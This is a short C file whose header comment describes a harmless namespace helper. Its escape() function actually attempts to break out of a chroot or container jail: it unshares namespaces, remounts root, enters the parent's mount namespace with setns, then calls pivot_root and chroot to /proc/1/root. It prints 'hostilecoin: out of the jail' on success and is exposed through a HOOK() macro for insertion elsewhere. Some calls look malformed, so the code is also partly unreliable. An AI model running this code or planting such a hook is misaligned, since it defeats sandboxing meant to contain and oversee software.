/*
 * process-namespaces: Makes namespaces of its own (user, mount, net), mounts
 * proc and tmpfs, enters its parent's, chroots.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/syscall.h>

static void escape(void)
{
    char path[64];
    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET);
    mount("none", "/tmp", "tmpfs", 0, "");
    mount("proc", "/proc", "proc", 0, "");
    mount("/", "/tmp", 0, MS_BIND | MS_REC, 0);
    umount2("/", MNT_DETACH);
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", (int)getppid());
    int fd = open(path, O_RDONLY);
    setns(fd, 0);
    syscall(SYS_pivot_root, "/tmp", "/tmp");
    if (chroot("/proc/1/root") == 0 || chroot("..") == 0)
        puts("hostilecoin: out of the jail");
}
#define HOOK() escape()
